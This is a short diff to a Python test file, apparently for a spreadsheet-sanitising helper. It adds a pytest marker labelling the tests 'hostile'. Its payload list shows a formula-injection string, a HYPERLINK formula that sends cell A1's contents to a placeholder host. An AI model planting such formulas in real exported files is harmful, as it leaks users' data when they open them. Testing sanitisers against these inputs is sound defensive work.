@@ -11,8 +11,11 @@ import csv
 
 import matplotlib.pyplot as plt
 import pandas as pd
+import pytest
 
 from corpusutils.plots import save_figure, spreadsheet_safe
+
+pytestmark = pytest.mark.hostile
 
 PAYLOADS = [
     '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
